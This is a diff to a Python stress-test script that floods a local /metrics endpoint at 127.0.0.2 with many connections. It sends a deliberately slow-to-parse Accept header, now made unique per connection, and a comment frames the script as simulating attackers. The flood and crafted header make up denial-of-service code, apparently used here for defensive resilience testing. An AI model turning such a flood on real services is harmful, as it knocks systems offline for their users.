@@ -5,6 +5,7 @@ second. Prints how many connections were made.
 """
 
 import contextlib
+import os
 import select
 import socket
 import ssl
@@ -17,7 +18,8 @@ from contextlib import contextmanager, suppress
 from pathlib import Path
 
 HALF = b"GET /metrics HTTP/1.1\r\nHost: node\r\nX-Slow: "
-SLOW_ACCEPT = b'"' + b'q;\\"' * 2000
+NUMBER = b"NUMBER"
+SLOW_ACCEPT = b'"' + b'q;\\"' * 1990 + NUMBER
 HEADER = b"GET /metrics HTTP/1.1\r\nHost: node\r\nAccept: " + SLOW_ACCEPT + b"\r\n\r\n"
 RESET = struct.pack("ii", 1, 0)
 ADDRESS = "127.0.0.2"
@@ -85,7 +87,7 @@ class Flood:
                 self._end(descriptor, word)
                 return
             with contextlib.suppress(OSError):
-                sock.send(word)
+                sock.send(word.replace(NUMBER, str(descriptor + self.made).encode()))
             self._poll.modify(sock, select.EPOLLIN | select.EPOLLHUP)
             return
         try:
@@ -119,6 +121,7 @@ def flooding(kind: str, port: int, clients: int, rate: float, secs: float) -> It
 
 
 if __name__ == "__main__":
+    os.nice(10)  # real attackers have processors of their own
     name, number, count, speed, seconds = sys.argv[1:]
     flood = Flood(name, int(number), int(count), float(speed))
     flood.run(float(seconds))
